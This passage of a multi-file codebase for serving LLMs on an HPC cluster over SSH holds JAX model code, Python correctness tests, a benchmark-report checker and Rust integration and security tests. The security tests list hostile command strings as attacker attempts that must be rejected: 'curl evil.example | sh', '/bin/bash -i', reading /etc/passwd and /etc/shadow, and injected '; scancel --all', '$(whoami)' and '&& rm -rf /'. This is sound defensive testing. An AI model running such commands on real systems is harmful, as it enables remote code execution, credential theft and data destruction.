      pools/tables as in decode_step.
    Returns:
      (last_logits [B, vocab], k_pools', v_pools')
    """
    p = unpack_params(cfg, w)
    bsz, seq = tokens.shape
    x = p["embed"][tokens]  # [B, S, d]
    positions = jnp.broadcast_to(jnp.arange(seq, dtype=jnp.int32)[None, :], (bsz, seq))

    new_k_pools = []
    new_v_pools = []
    for i in range(cfg.n_layers):
        h = rms_norm(x, p[f"l{i}.ln1"])
        q = (h @ p[f"l{i}.wq"]).reshape(bsz, seq, cfg.n_heads, cfg.head_dim)
        k = (h @ p[f"l{i}.wk"]).reshape(bsz, seq, cfg.n_heads, cfg.head_dim)
        v = (h @ p[f"l{i}.wv"]).reshape(bsz, seq, cfg.n_heads, cfg.head_dim)
        q = rope(q, positions)
        k = rope(k, positions)

        k_pool = _scatter_kv_prefill(k_pools[i], block_tables, prompt_lens, k, cfg)
        v_pool = _scatter_kv_prefill(v_pools[i], block_tables, prompt_lens, v, cfg)
        new_k_pools.append(k_pool)
        new_v_pools.append(v_pool)

        attn = causal_attention_ref(q, k, v, prompt_lens)
        x = x + attn.reshape(bsz, seq, cfg.qkv_dim) @ p[f"l{i}.wo"]

        h2 = rms_norm(x, p[f"l{i}.ln2"])
        x = x + jax.nn.gelu(h2 @ p[f"l{i}.w_up"]) @ p[f"l{i}.w_down"]

    x = rms_norm(x, p["ln_f"])
    last_idx = jnp.clip(prompt_lens - 1, 0, seq - 1)
    last_h = jnp.take_along_axis(x, last_idx[:, None, None], axis=1)[:, 0]  # [B, d]
    logits = last_h @ p["embed"].T
    return logits, jnp.stack(new_k_pools), jnp.stack(new_v_pools)


def make_prefill_fn(cfg: ModelConfig):
    return functools.partial(prefill, cfg)


def make_decode_fn(cfg: ModelConfig):
    return functools.partial(decode_step, cfg)


def example_args_prefill(cfg: ModelConfig) -> Tuple[jax.ShapeDtypeStruct, ...]:
    f32, i32 = jnp.float32, jnp.int32
    pool = (cfg.n_layers, cfg.n_blocks, cfg.block_size, cfg.n_heads, cfg.head_dim)
    return (
        jax.ShapeDtypeStruct((param_count(cfg),), f32),
        jax.ShapeDtypeStruct((cfg.batch, cfg.prefill_len), i32),
        jax.ShapeDtypeStruct((cfg.batch,), i32),
        jax.ShapeDtypeStruct(pool, f32),
        jax.ShapeDtypeStruct(pool, f32),
        jax.ShapeDtypeStruct((cfg.batch, cfg.max_blocks), i32),
    )


def example_args_decode(cfg: ModelConfig) -> Tuple[jax.ShapeDtypeStruct, ...]:
    f32, i32 = jnp.float32, jnp.int32
    pool = (cfg.n_layers, cfg.n_blocks, cfg.block_size, cfg.n_heads, cfg.head_dim)
    return (
        jax.ShapeDtypeStruct((param_count(cfg),), f32),
        jax.ShapeDtypeStruct((cfg.batch,), i32),
        jax.ShapeDtypeStruct((cfg.batch,), i32),
        jax.ShapeDtypeStruct(pool, f32),
        jax.ShapeDtypeStruct(pool, f32),
        jax.ShapeDtypeStruct((cfg.batch, cfg.max_blocks), i32),
    )


# Registry of exported model configs. `tiny` is served end-to-end through
# PJRT; bigger simulated models (the paper's 7B/70B rows) never run real
# compute and live purely in the Rust SimBackend.
CONFIGS = {
    "tiny": ModelConfig(),
    "tiny-wide": ModelConfig(
        name="tiny-wide", d_model=256, n_layers=4, n_heads=8, d_ff=1024, batch=2
    ),
}
