"""L1 correctness: the Pallas paged-attention kernel vs the pure-jnp oracle.

Hypothesis sweeps shapes, context lengths and block-table layouts; every
case asserts allclose against `ref.py`. This is the core numeric signal for
the whole stack — the decode HLO the Rust runtime executes contains exactly
this kernel (lowered with interpret=True).
"""

import jax.numpy as jnp
import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from compile.kernels.attention import paged_decode_attention
from compile.kernels.ref import (
    causal_attention_ref,
    gather_kv,
    paged_decode_attention_ref,
)


def make_case(rng, batch, n_heads, head_dim, block_size, max_blocks, n_blocks, lens):
    q = jnp.asarray(rng.normal(size=(batch, n_heads, head_dim)), jnp.float32)
    k_pool = jnp.asarray(
        rng.normal(size=(n_blocks, block_size, n_heads, head_dim)), jnp.float32
    )
    v_pool = jnp.asarray(
        rng.normal(size=(n_blocks, block_size, n_heads, head_dim)), jnp.float32
    )
    bt = jnp.asarray(rng.integers(0, n_blocks, size=(batch, max_blocks)), jnp.int32)
    cl = jnp.asarray(lens, jnp.int32)
    return q, k_pool, v_pool, bt, cl


@settings(max_examples=25, deadline=None)
@given(
    batch=st.integers(1, 4),
    n_heads=st.sampled_from([1, 2, 4]),
    head_dim=st.sampled_from([8, 16, 32, 64]),
    block_size=st.sampled_from([4, 8, 16]),
    max_blocks=st.integers(1, 6),
    seed=st.integers(0, 2**31 - 1),
    data=st.data(),
)
def test_kernel_matches_ref_sweep(batch, n_heads, head_dim, block_size, max_blocks, seed, data):
    rng = np.random.default_rng(seed)
    n_blocks = max_blocks * batch + 2
    max_len = block_size * max_blocks
    lens = [data.draw(st.integers(1, max_len)) for _ in range(batch)]
    q, k_pool, v_pool, bt, cl = make_case(
        rng, batch, n_heads, head_dim, block_size, max_blocks, n_blocks, lens
    )
    out = paged_decode_attention(q, k_pool, v_pool, bt, cl)
    ref = paged_decode_attention_ref(q, k_pool, v_pool, bt, cl)
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref), rtol=3e-5, atol=3e-5)


def test_kernel_single_token_context():
    """ctx_len=1: attention over a single KV slot must return exactly v[0]."""
    rng = np.random.default_rng(7)
    q, k_pool, v_pool, bt, cl = make_case(rng, 2, 2, 16, 8, 2, 8, [1, 1])
    out = paged_decode_attention(q, k_pool, v_pool, bt, cl)
    expect = np.stack(
        [np.asarray(v_pool)[np.asarray(bt)[b, 0], 0] for b in range(2)]
    )
    np.testing.assert_allclose(np.asarray(out), expect, rtol=1e-5, atol=1e-5)


def test_kernel_full_context():
    """ctx_len = max capacity exercises every page with no masking."""
    rng = np.random.default_rng(8)
    q, k_pool, v_pool, bt, cl = make_case(rng, 3, 4, 32, 16, 4, 16, [64, 64, 64])
    out = paged_decode_attention(q, k_pool, v_pool, bt, cl)
    ref = paged_decode_attention_ref(q, k_pool, v_pool, bt, cl)
    np.testing.assert_allclose(np.asarray(out), np.asarray(ref), rtol=3e-5, atol=3e-5)


def test_kernel_is_permutation_invariant_to_unused_pages():
    """Pages past ctx_len must not affect the output (masking invariant)."""
    rng = np.random.default_rng(9)
    q, k_pool, v_pool, bt, cl = make_case(rng, 1, 2, 16, 8, 4, 12, [9])
    out1 = paged_decode_attention(q, k_pool, v_pool, bt, cl)
    # Repoint the unused tail pages (positions >= 9 live in pages >= 2, but
    # page 1 is partially used — only pages 2,3 are fully unused).
    bt2 = np.asarray(bt).copy()
    bt2[0, 2:] = [11, 10]
    out2 = paged_decode_attention(q, k_pool, v_pool, jnp.asarray(bt2), cl)
    np.testing.assert_allclose(np.asarray(out1), np.asarray(out2), rtol=1e-6, atol=1e-6)


def test_kernel_scale_invariance_softmax():
    """Adding a constant to all scores (via duplicating KV) keeps weights
    normalised: output magnitude stays bounded by max |v|."""
    rng = np.random.default_rng(10)
    q, k_pool, v_pool, bt, cl = make_case(rng, 2, 2, 8, 4, 3, 8, [12, 5])
    out = np.asarray(paged_decode_attention(q, k_pool, v_pool, bt, cl))
    assert np.all(np.abs(out) <= np.abs(np.asarray(v_pool)).max() + 1e-5)


def test_gather_kv_layout():
    rng = np.random.default_rng(11)
    k_pool = jnp.asarray(rng.normal(size=(6, 4, 2, 8)), jnp.float32)
    v_pool = jnp.asarray(rng.normal(size=(6, 4, 2, 8)), jnp.float32)
    bt = jnp.asarray([[3, 1]], jnp.int32)
    k, v = gather_kv(k_pool, v_pool, bt)
    assert k.shape == (1, 8, 2, 8)
    np.testing.assert_array_equal(np.asarray(k[0, :4]), np.asarray(k_pool[3]))
    np.testing.assert_array_equal(np.asarray(k[0, 4:]), np.asarray(k_pool[1]))
    np.testing.assert_array_equal(np.asarray(v[0, :4]), np.asarray(v_pool[3]))


@settings(max_examples=10, deadline=None)
@given(seed=st.integers(0, 2**31 - 1), seq=st.sampled_from([4, 8, 16]))
def test_causal_ref_matches_manual(seed, seq):
    """The prefill oracle agrees with an explicit per-position softmax."""
    rng = np.random.default_rng(seed)
    b, h, d = 2, 2, 8
    q = jnp.asarray(rng.normal(size=(b, seq, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, seq, h, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, seq, h, d)), jnp.float32)
    lens = jnp.asarray([seq, max(1, seq // 2)], jnp.int32)
    out = np.asarray(causal_attention_ref(q, k, v, lens))

    qn, kn, vn = map(np.asarray, (q, k, v))
    for bi in range(b):
        for hi in range(h):
            for qi in range(int(lens[bi])):
                kmax = min(qi + 1, int(lens[bi]))
                scores = qn[bi, :kmax, hi] @ 0 if False else (
                    kn[bi, :kmax, hi] @ qn[bi, qi, hi] / np.sqrt(d)
                )
                w = np.exp(scores - scores.max())
                w /= w.sum()
                expect = w @ vn[bi, :kmax, hi]
                np.testing.assert_allclose(out[bi, qi, hi], expect, rtol=3e-5, atol=3e-5)
