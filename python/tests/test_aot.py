"""Build-path tests: AOT export produces loadable, well-formed artifacts."""

import hashlib
import json
import os

import numpy as np
import pytest

from compile.aot import export_model, to_hlo_text
from compile.model import CONFIGS, ModelConfig, init_params, param_count


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    out = tmp_path_factory.mktemp("artifacts")
    cfg = CONFIGS["tiny"]
    entry = export_model(cfg, str(out))
    return cfg, entry, out


def test_manifest_entry_fields(exported):
    cfg, entry, _ = exported
    assert entry["name"] == "tiny"
    assert entry["param_count"] == param_count(cfg)
    assert entry["batch"] == cfg.batch
    assert entry["max_seq"] == cfg.block_size * cfg.max_blocks
    assert set(entry["files"]) == {"prefill", "decode", "weights"}


def test_hlo_text_is_parseable_shape(exported):
    cfg, entry, out = exported
    for tag in ("prefill", "decode"):
        text = (out / entry["files"][tag]).read_text()
        # HLO text modules start with `HloModule` and contain an ENTRY comp.
        assert text.startswith("HloModule"), tag
        assert "ENTRY" in text, tag
        # The interchange constraint: instruction ids must be text-parsed,
        # i.e. we never ship a serialized proto.
        assert not text.startswith(b"\x08".decode("latin1")), tag


def test_decode_hlo_mentions_all_inputs(exported):
    cfg, entry, out = exported
    text = (out / entry["files"]["decode"]).read_text()
    # weights vector, tokens, positions, two pools, block table = 6 entry
    # params (sub-computations also declare parameters, so scope to ENTRY).
    entry_comp = text[text.index("ENTRY") :]
    entry_body = entry_comp[: entry_comp.index("\n}")]
    assert entry_body.count("parameter(") == 6


def test_weights_reproducible_and_hashed(exported):
    cfg, entry, out = exported
    raw = (out / entry["files"]["weights"]).read_bytes()
    assert hashlib.sha256(raw).hexdigest() == entry["weights_sha256"]
    again = init_params(cfg).tobytes()
    assert raw == again
    assert len(raw) == 4 * entry["param_count"]


def test_weights_are_finite(exported):
    cfg, entry, out = exported
    w = np.fromfile(out / entry["files"]["weights"], dtype=np.float32)
    assert np.isfinite(w).all()
    assert w.std() > 0.01


def test_hlo_text_roundtrip_small():
    """to_hlo_text produces text XLA can re-ingest (smoke via jax itself)."""
    import jax
    import jax.numpy as jnp

    lowered = jax.jit(lambda x: (x * 2 + 1,)).lower(
        jax.ShapeDtypeStruct((4,), jnp.float32)
    )
    text = to_hlo_text(lowered)
    assert "HloModule" in text and "ENTRY" in text
