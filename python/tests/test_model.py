"""L2 correctness: the transformer's paged decode path vs dense prefill.

The decisive test is `test_decode_matches_prefill`: running the model
token-by-token through the *paged Pallas decode path* must produce the same
logits as running the whole sequence through the *dense causal prefill
path*. That equivalence exercises RoPE positions, KV scatter, block tables
and the kernel end to end.
"""

import jax.numpy as jnp
import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from compile.model import (
    CONFIGS,
    ModelConfig,
    decode_step,
    init_params,
    param_count,
    param_shapes,
    prefill,
    rms_norm,
    rope,
    unpack_params,
)

# A deliberately small config so interpret-mode Pallas stays fast in CI.
TEST_CFG = ModelConfig(
    name="test",
    vocab=64,
    d_model=32,
    n_layers=2,
    n_heads=2,
    head_dim=8,
    d_ff=64,
    batch=2,
    prefill_len=16,
    block_size=4,
    n_blocks=24,
    max_blocks=4,
    seed=123,
)


def fresh_state(cfg):
    w = jnp.asarray(init_params(cfg))
    pool_shape = (cfg.n_layers, cfg.n_blocks, cfg.block_size, cfg.n_heads, cfg.head_dim)
    k_pools = jnp.zeros(pool_shape, jnp.float32)
    v_pools = jnp.zeros(pool_shape, jnp.float32)
    # Disjoint block tables per row, leaving block 0 as scratch.
    bt = np.zeros((cfg.batch, cfg.max_blocks), np.int32)
    nxt = 1
    for b in range(cfg.batch):
        for j in range(cfg.max_blocks):
            bt[b, j] = nxt
            nxt += 1
    return w, k_pools, v_pools, jnp.asarray(bt)


def pad_tokens(cfg, rows):
    out = np.zeros((cfg.batch, cfg.prefill_len), np.int32)
    lens = np.zeros((cfg.batch,), np.int32)
    for i, r in enumerate(rows):
        out[i, : len(r)] = r
        lens[i] = len(r)
    return jnp.asarray(out), jnp.asarray(lens)


def test_param_layout_roundtrip():
    cfg = TEST_CFG
    w = jnp.asarray(init_params(cfg))
    assert w.shape[0] == param_count(cfg)
    p = unpack_params(cfg, w)
    assert p["embed"].shape == (cfg.vocab, cfg.d_model)
    assert p["l0.wq"].shape == (cfg.d_model, cfg.n_heads * cfg.head_dim)
    # Re-flatten in declared order reproduces the vector exactly.
    flat = jnp.concatenate([p[name].reshape(-1) for name, _ in param_shapes(cfg)])
    np.testing.assert_array_equal(np.asarray(flat), np.asarray(w))


def test_init_params_deterministic():
    a = init_params(TEST_CFG)
    b = init_params(TEST_CFG)
    np.testing.assert_array_equal(a, b)
    c = init_params(ModelConfig(**{**TEST_CFG.__dict__, "seed": 999}))
    assert not np.array_equal(a, c)


def test_rms_norm_unit_scale():
    x = jnp.asarray(np.random.default_rng(0).normal(size=(4, 32)) * 10, jnp.float32)
    y = np.asarray(rms_norm(x, jnp.ones((32,))))
    rms = np.sqrt((y**2).mean(axis=-1))
    np.testing.assert_allclose(rms, 1.0, rtol=1e-3)


def test_rope_preserves_norm_and_zero_position_identity():
    rng = np.random.default_rng(1)
    x = jnp.asarray(rng.normal(size=(3, 2, 8)), jnp.float32)
    pos0 = jnp.zeros((3,), jnp.int32)
    np.testing.assert_allclose(np.asarray(rope(x, pos0)), np.asarray(x), atol=1e-6)
    posn = jnp.asarray([5, 9, 100], jnp.int32)
    y = np.asarray(rope(x, posn))
    np.testing.assert_allclose(
        np.linalg.norm(y, axis=-1), np.linalg.norm(np.asarray(x), axis=-1), rtol=1e-5
    )


def test_rope_relative_property():
    """RoPE inner products depend only on relative distance."""
    rng = np.random.default_rng(2)
    q = jnp.asarray(rng.normal(size=(1, 1, 8)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(1, 1, 8)), jnp.float32)

    def dot(pq, pk):
        qr = np.asarray(rope(q, jnp.asarray([pq], jnp.int32)))[0, 0]
        kr = np.asarray(rope(k, jnp.asarray([pk], jnp.int32)))[0, 0]
        return float(qr @ kr)

    assert abs(dot(3, 1) - dot(10, 8)) < 1e-4
    assert abs(dot(5, 5) - dot(0, 0)) < 1e-4


def test_prefill_shapes_and_finite():
    cfg = TEST_CFG
    w, kp, vp, bt = fresh_state(cfg)
    tokens, lens = pad_tokens(cfg, [[1, 2, 3, 4, 5], [7, 8]])
    logits, kp2, vp2 = prefill(cfg, w, tokens, lens, kp, vp, bt)
    assert logits.shape == (cfg.batch, cfg.vocab)
    assert np.isfinite(np.asarray(logits)).all()
    assert kp2.shape == kp.shape
    # Pool blocks belonging to written positions changed; scratch block 0 didn't.
    np.testing.assert_array_equal(np.asarray(kp2[:, 0]), np.asarray(kp[:, 0]))
    assert not np.array_equal(np.asarray(kp2), np.asarray(kp))


@settings(max_examples=6, deadline=None)
@given(seed=st.integers(0, 2**31 - 1), total_len=st.integers(2, 12))
def test_decode_matches_prefill(seed, total_len):
    """Paged token-by-token decode == dense whole-prompt prefill."""
    cfg = TEST_CFG
    rng = np.random.default_rng(seed)
    seqs = [rng.integers(1, cfg.vocab, size=total_len).tolist() for _ in range(cfg.batch)]

    # Dense path: prefill the whole sequence, read last-token logits.
    w, kp, vp, bt = fresh_state(cfg)
    tokens, lens = pad_tokens(cfg, seqs)
    want, _, _ = prefill(cfg, w, tokens, lens, kp, vp, bt)

    # Paged path: prefill the first token only, then decode the rest.
    w, kp, vp, bt = fresh_state(cfg)
    tokens1, lens1 = pad_tokens(cfg, [s[:1] for s in seqs])
    got, kp, vp = prefill(cfg, w, tokens1, lens1, kp, vp, bt)
    for t in range(1, total_len):
        step_tokens = jnp.asarray([s[t] for s in seqs], jnp.int32)
        positions = jnp.full((cfg.batch,), t, jnp.int32)
        got, kp, vp = decode_step(cfg, w, step_tokens, positions, kp, vp, bt)

    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=2e-3, atol=2e-3)


def test_decode_rows_are_independent():
    """Changing row 1's tokens must not change row 0's logits (no KV bleed)."""
    cfg = TEST_CFG
    w, kp, vp, bt = fresh_state(cfg)
    tokens, lens = pad_tokens(cfg, [[5, 6, 7], [9, 10, 11]])
    a, kpa, vpa = prefill(cfg, w, tokens, lens, kp, vp, bt)

    tokens2, _ = pad_tokens(cfg, [[5, 6, 7], [20, 21, 22]])
    b, kpb, vpb = prefill(cfg, w, tokens2, lens, kp, vp, bt)
    np.testing.assert_allclose(np.asarray(a)[0], np.asarray(b)[0], rtol=1e-5, atol=1e-5)

    # And through a decode step as well.
    step = jnp.asarray([3, 4], jnp.int32)
    pos = jnp.asarray([3, 3], jnp.int32)
    da, _, _ = decode_step(cfg, w, step, pos, kpa, vpa, bt)
    db, _, _ = decode_step(cfg, w, step, pos, kpb, vpb, bt)
    np.testing.assert_allclose(np.asarray(da)[0], np.asarray(db)[0], rtol=1e-5, atol=1e-5)


def test_exported_configs_are_consistent():
    for name, cfg in CONFIGS.items():
        assert cfg.name == name
        assert cfg.qkv_dim == cfg.n_heads * cfg.head_dim
        assert cfg.max_seq == cfg.block_size * cfg.max_blocks
        assert cfg.head_dim % 2 == 0, "RoPE needs even head_dim"
        # The shared pool must at least fit one full batch of sequences.
        assert cfg.n_blocks >= cfg.batch * cfg.max_blocks + 1
        assert cfg.prefill_len <= cfg.max_seq
