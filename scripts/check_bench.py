#!/usr/bin/env python3
"""Validate a BENCH_*.json paper-figure report.

Usage: check_bench.py [--passed] <file.json> <required-key> [<required-key> ...]

Fails (exit 1) when the file is missing, unparseable, lacks a required
sweep key, or a sweep lacks the four numeric fields of the BenchReport
schema ({rps, p50_ms, p99_ms, ttft_ms}). With --passed, every required
sweep must additionally carry `"passed": 1` — used by shape-checked
reports (BENCH_chaos.json, BENCH_scenarios.json) where a sweep can emit
metrics and still have failed its acceptance checks. CI runs this after
the --smoke bench runs so a paper-figure reproduction that silently
stops emitting results breaks the build instead of rotting.
"""

import json
import sys

FIELDS = ("rps", "p50_ms", "p99_ms", "ttft_ms")


def main() -> int:
    args = sys.argv[1:]
    require_passed = "--passed" in args
    args = [a for a in args if a != "--passed"]
    if len(args) < 2:
        print(
            "usage: check_bench.py [--passed] <file.json> <required-key>...",
            file=sys.stderr,
        )
        return 2
    path, keys = args[0], args[1:]
    try:
        with open(path, encoding="utf-8") as fh:
            data = json.load(fh)
    except FileNotFoundError:
        print(f"FAIL {path}: not emitted", file=sys.stderr)
        return 1
    except json.JSONDecodeError as exc:
        print(f"FAIL {path}: invalid JSON: {exc}", file=sys.stderr)
        return 1
    bad = False
    for key in keys:
        row = data.get(key)
        if not isinstance(row, dict):
            print(f"FAIL {path}: missing sweep {key!r}", file=sys.stderr)
            bad = True
            continue
        for field in FIELDS:
            if not isinstance(row.get(field), (int, float)):
                print(f"FAIL {path}: {key}.{field} missing or non-numeric", file=sys.stderr)
                bad = True
        if require_passed and row.get("passed") != 1:
            print(
                f"FAIL {path}: {key}.passed != 1 (shape checks failed)",
                file=sys.stderr,
            )
            bad = True
    if bad:
        return 1
    print(f"OK {path}: {len(keys)} required sweeps present")
    return 0


if __name__ == "__main__":
    sys.exit(main())
