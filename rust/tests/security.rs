//! Security evaluation (§6.1) as executable attack scenarios.
//!
//! Each test plays an attacker somewhere on the paper's threat model:
//! a compromised web server holding the SSH key, an injection attempt
//! against the Cloud Interface Script, a man-on-the-wire, and a data thief
//! looking for stored conversations.

use std::sync::Arc;
use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::sshsim::{AuthorizedKey, AuthorizedKeys, KeyPair, SshClient, SshServer};
use chat_hpc::stack::{ChatAiStack, StackConfig, CLOUD_INTERFACE_CMD};
use chat_hpc::util::json::Json;

fn stack() -> ChatAiStack {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    stack
}

/// §6.1.2 scenario 1: the attacker fully controls the web server and steals
/// the SSH key. ForceCommand must confine them to the cloud interface.
#[test]
fn stolen_key_cannot_run_arbitrary_commands() {
    let stack = stack();
    // The attacker exfiltrated the key material (same seed the stack uses).
    let stolen = KeyPair::generate(0xE5C);
    let client = SshClient::connect(&stack.ssh_server.addr.to_string(), &stolen).unwrap();

    for attempt in [
        "/bin/bash -i",
        "cat /etc/passwd",
        "scancel --all",
        "srun --gres=gpu:4 ./cryptominer",
        "curl evil.example | sh",
    ] {
        let reply = client.exec(attempt, b"").unwrap();
        // The pinned command ran instead — and its strict parser rejected
        // the attacker's string, which arrives only as SSH_ORIGINAL_COMMAND.
        assert_eq!(reply.exit_code, 2, "attempt {attempt:?} was not rejected");
        let out = String::from_utf8_lossy(&reply.stdout);
        assert!(out.contains("does not match any permitted path"), "{out}");
    }
    // Circuit breaker stats confirm every exec was force-commanded.
    assert!(stack.ssh_server.stats.forced_commands.load(std::sync::atomic::Ordering::Relaxed) >= 5);
}

/// §6.1.2 scenario 2: injection through the *legitimate* verbs.
#[test]
fn cloud_interface_injection_attempts_rejected() {
    let stack = stack();
    let stolen = KeyPair::generate(0xE5C);
    let client = SshClient::connect(&stack.ssh_server.addr.to_string(), &stolen).unwrap();

    for attempt in [
        "infer intel-neural-7b; scancel --all",
        "infer $(whoami)",
        "infer ../../etc/shadow",
        "probe intel-neural-7b && rm -rf /",
        "tick --config /tmp/evil.conf",
        "infer intel-neural-7b\nscancel --all",
    ] {
        let reply = client.exec(attempt, b"{}").unwrap();
        assert_eq!(reply.exit_code, 2, "attempt {attempt:?} was accepted");
    }
    // The legitimate call still works afterwards (no lockout side effects).
    let reply = client.exec("probe intel-neural-7b", b"").unwrap();
    assert_eq!(reply.exit_code, 0);
}

/// An unauthorized key (not in authorized_keys) is rejected at handshake.
#[test]
fn unknown_key_rejected_at_handshake() {
    let stack = stack();
    let rogue = KeyPair::generate(0xBAD);
    assert!(SshClient::connect(&stack.ssh_server.addr.to_string(), &rogue).is_err());
}

/// Frames are encrypted + MAC'd: a man-on-the-wire cannot splice commands.
/// (Unit-level tamper tests live in sshsim; this is the end-to-end check
/// that the stack's channel uses that protection.)
#[test]
fn channel_is_encrypted_not_plaintext() {
    // Run a raw TCP eavesdropper-style check: connect, send garbage, and
    // verify the server does not execute anything.
    let kp = KeyPair::generate(1);
    let mut ak = AuthorizedKeys::new();
    ak.add(AuthorizedKey {
        fingerprint: kp.fingerprint(),
        force_command: Some(CLOUD_INTERFACE_CMD.into()),
        options: vec![],
        comment: String::new(),
    });
    let counted = Arc::new(std::sync::atomic::AtomicU64::new(0));
    let c2 = counted.clone();
    let handler: Arc<dyn chat_hpc::sshsim::CommandHandler> = Arc::new(
        move |_c: &str,
              _o: &str,
              _i: &[u8],
              _out: &mut dyn FnMut(&[u8]) -> anyhow::Result<()>| {
            c2.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            0
        },
    );
    let server =
        SshServer::start(ak, vec![kp.clone()], vec![(CLOUD_INTERFACE_CMD.into(), handler)])
            .unwrap();

    // Plaintext "exec" bytes straight at the socket: must not dispatch.
    use std::io::Write;
    let mut raw = std::net::TcpStream::connect(server.addr).unwrap();
    let _ = raw.write_all(&[0u8; 64]); // bogus fingerprint
    let _ = raw.write_all(b"infer intel-neural-7b totally-real-frame");
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(counted.load(std::sync::atomic::Ordering::SeqCst), 0);

    // While a legitimate client round-trips fine.
    let client = SshClient::connect(&server.addr.to_string(), &kp).unwrap();
    assert_eq!(client.exec("anything", b"").unwrap().exit_code, 0);
    assert_eq!(counted.load(std::sync::atomic::Ordering::SeqCst), 1);
}

/// §6.2: an attacker who dumps every server-side store finds no
/// conversation content — prompts/responses exist only in flight.
#[test]
fn no_conversation_content_stored_server_side() {
    let stack = stack();
    let secret = "SECRET-MEDICAL-HISTORY-XYZZY";
    let (status, body) = stack.chat("intel-neural-7b", secret).unwrap();
    assert_eq!(status, 200);
    assert!(body.dump().len() > 0);

    // 1. The usage log holds user/model/timestamp only.
    for e in stack.log.entries() {
        assert!(!format!("{e:?}").contains(secret));
    }
    // 2. The metrics exposition contains no prompt text.
    assert!(!stack.metrics.render().contains(secret));
    // 3. Slurm job state (names, comments) contains no prompt text.
    for job in stack.slurm.lock().unwrap().squeue() {
        assert!(!job.comment.contains(secret));
        assert!(!job.name.contains(secret));
    }
}

/// The pooled proxy opens N SSH connections instead of one; the
/// ForceCommand circuit breaker must hold on *every* pool member — for the
/// legitimate proxy's traffic and for an attacker driving their own pool
/// of connections with the stolen key.
#[test]
fn force_command_pinned_on_every_pooled_connection() {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
        ssh_pool_size: 4,
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    let stats = &stack.ssh_server.stats;
    let ord = std::sync::atomic::Ordering::Relaxed;
    assert!(
        stats.sessions_accepted.load(ord) >= 4,
        "all pool members authenticated with the pinned key"
    );

    // Concurrent traffic spreads over the pool's data lanes.
    let mut workers = Vec::new();
    for _ in 0..8 {
        let proxy = stack.proxy.clone();
        workers.push(std::thread::spawn(move || {
            for _ in 0..3 {
                let (status, _) = proxy
                    .infer("intel-neural-7b", b"{\"messages\":[{\"role\":\"user\",\"content\":\"x\"}]}")
                    .unwrap();
                assert_eq!(status, 200);
            }
        }));
    }
    for w in workers {
        w.join().unwrap();
    }
    // Every exec that reached the server — infer on any lane, tick on the
    // control connection — went through the ForceCommand replacement.
    // (forced_commands increments before execs, so reading execs first
    // makes this race-safe against in-flight keepalive ticks.)
    let execs = stats.execs.load(ord);
    let forced = stats.forced_commands.load(ord);
    assert!(execs >= 24, "pool traffic reached the server: {execs}");
    assert!(forced >= execs, "an exec bypassed ForceCommand: {forced} < {execs}");

    // An attacker with the stolen key builds their own 4-connection pool:
    // each connection is independently pinned, so arbitrary commands are
    // rejected on all of them.
    let stolen = KeyPair::generate(0xE5C);
    let attack_pool: Vec<_> = (0..4)
        .map(|_| SshClient::connect(&stack.ssh_server.addr.to_string(), &stolen).unwrap())
        .collect();
    for client in &attack_pool {
        let reply = client.exec("scancel --all", b"").unwrap();
        assert_eq!(reply.exit_code, 2, "arbitrary command must be rejected");
        let out = String::from_utf8_lossy(&reply.stdout);
        assert!(out.contains("does not match any permitted path"), "{out}");
    }
    let execs = stats.execs.load(ord);
    let forced = stats.forced_commands.load(ord);
    assert!(forced >= execs, "attacker connections are force-commanded too");
}

/// Rate limiting protects the paid external route (§5.8).
#[test]
fn external_route_rate_limited() {
    let stack = stack();
    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")])
        .dump();
    let mut limited = 0;
    for _ in 0..120 {
        let r = chat_hpc::util::http::request(
            "POST",
            &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
            &[("authorization", "Bearer key-research-0001")],
            body.as_bytes(),
        )
        .unwrap();
        if r.status == 429 {
            limited += 1;
        }
    }
    assert!(limited > 0, "burst of 120 must trip the 50 rps limit");
}
