//! End-to-end integration: the full Figure-1 stack in one process group.
//!
//! These tests cover the complete request path — gateway auth → HPC proxy
//! → SSH ForceCommand → cloud interface → routing table → vLLM-like
//! engine — for both the simulated production models and the real
//! PJRT-compiled `tiny` model.

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
#[cfg(feature = "pjrt")]
use chat_hpc::slurm::ClusterSpec;
use chat_hpc::stack::{ChatAiStack, StackConfig};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;

fn sim_stack() -> ChatAiStack {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![
            ServiceSpec::sim("intel-neural-7b", 0.0),
            ServiceSpec::sim("mixtral-8x7b", 0.0),
        ],
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    stack
}

#[test]
fn full_path_chat_completion() {
    let stack = sim_stack();
    let (status, body) = stack.chat("intel-neural-7b", "count from 1 to 10").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert_eq!(
        body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10"
    );
    // The usage log captured the request with the API consumer id.
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].user, "api-research");
    assert_eq!(entries[0].model, "intel-neural-7b");
}

#[test]
fn full_path_streaming_tokens() {
    let stack = sim_stack();
    let text = stack.chat_stream("intel-neural-7b", "count").unwrap();
    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
}

#[test]
fn prefix_cache_usage_flows_through_the_stack() {
    // Two identical chat turns end-to-end: the second must report prefix
